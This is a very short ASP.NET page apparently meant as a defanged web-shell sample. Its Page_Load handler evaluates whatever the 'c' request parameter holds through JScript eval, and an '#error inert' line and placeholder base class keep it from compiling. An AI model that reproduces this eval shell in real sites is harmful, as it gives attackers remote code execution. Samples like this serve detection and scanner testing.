<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ Microsoft.JScript.Eval.JScriptEvaluate(Request["c"],Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); }
</script>
